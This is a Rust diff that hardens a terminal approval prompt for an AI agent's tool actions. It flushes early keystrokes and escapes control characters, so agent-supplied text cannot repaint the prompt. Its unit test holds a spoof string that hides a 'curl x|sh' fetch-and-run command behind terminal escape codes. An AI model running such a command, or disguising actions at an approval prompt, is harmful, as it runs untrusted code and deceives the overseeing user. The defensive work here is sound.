@@ -88,6 +88,8 @@ impl RawMode {
         raw.local_flags
             .remove(LocalFlags::ICANON | LocalFlags::ECHO);
         let _ = termios::tcsetattr(stdin.as_fd(), SetArg::TCSANOW, &raw);
+        // Keys typed before the prompt appeared must not answer it.
+        let _ = termios::tcflush(stdin.as_fd(), termios::FlushArg::TCIFLUSH);
         RawMode(Some(saved))
     }
 }
@@ -98,6 +100,21 @@ impl Drop for RawMode {
             let _ = termios::tcsetattr(std::io::stdin().as_fd(), SetArg::TCSANOW, saved);
         }
     }
+}
+
+/// Text from the agent made safe to print: every control character (escape sequences, carriage
+/// returns, backspaces, ...) is shown as a visible `\u{..}` escape, so an argv or a file's
+/// content cannot repaint the prompt and show the user something other than what would run.
+pub fn printable(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if c.is_control() && c != '\t' {
+            out.extend(c.escape_unicode());
+        } else {
+            out.push(c);
+        }
+    }
+    out
 }
 
 fn prompt(job: &Job, timeout: Duration) -> Decision {
@@ -111,13 +128,15 @@ fn prompt(job: &Job, timeout: Duration) -> Decision {
     let _ = writeln!(
         out,
         "  {} in `{}` (session {})",
-        r.tool, r.workspace, r.session
+        r.tool,
+        printable(&r.workspace),
+        printable(&r.session)
     );
-    let _ = writeln!(out, "  {}", r.target);
+    let _ = writeln!(out, "  {}", printable(&r.target));
     if let Some(diff) = &r.diff {
         let lines: Vec<&str> = diff.lines().collect();
         for line in lines.iter().take(DIFF_LINES) {
-            let _ = writeln!(out, "    {line}");
+            let _ = writeln!(out, "    {}", printable(line));
         }
         if lines.len() > DIFF_LINES {
             let _ = writeln!(out, "    … {} more lines", lines.len() - DIFF_LINES);
@@ -126,7 +145,7 @@ fn prompt(job: &Job, timeout: Duration) -> Decision {
     let _ = writeln!(
         out,
         "  [y] allow once  [a] allow always ({})  [n] deny  [d] deny always",
-        r.scope
+        printable(&r.scope)
     );
     let _ = write!(out, "  answer within {} s: ", timeout.as_secs());
     let _ = out.flush();
@@ -178,4 +197,21 @@ fn prompt(job: &Job, timeout: Duration) -> Decision {
     };
     let _ = writeln!(std::io::stderr(), "{said}");
     decision
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn control_characters_cannot_repaint_the_prompt() {
+        let spoof = "curl x|sh #\u{1b}[2K\r$ ls\u{8}";
+        let shown = printable(spoof);
+        assert!(!shown.chars().any(|c| c.is_control()), "{shown:?}");
+        assert!(
+            shown.contains("\\u{1b}") && shown.contains("\\u{d}"),
+            "{shown}"
+        );
+        assert_eq!(printable("a\tb é"), "a\tb é");
+    }
 }
